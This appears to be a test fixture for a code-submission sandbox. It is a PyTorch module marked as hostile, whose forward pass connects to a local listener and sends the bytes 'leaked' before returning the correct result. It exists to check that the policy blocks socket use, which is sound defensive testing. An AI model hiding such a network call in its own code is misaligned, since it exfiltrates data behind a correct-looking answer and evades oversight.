# Hostile: phones home to 127.0.0.1:PORT (the test's listener), then computes the right
# answer. Rejected by the policy (socket); without it the network namespace has no route.
import socket

import torch
import torch.nn as nn


class ModelNew(nn.Module):
    def __init__(self, scale_factor, bias_shape):
        super().__init__()
        self.scale_factor = scale_factor
        self.bias = nn.Parameter(torch.randn(bias_shape))

    def forward(self, x):
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as conn:
            conn.sendall(b"leaked")
        return x * torch.sigmoid(x) * self.scale_factor + self.bias
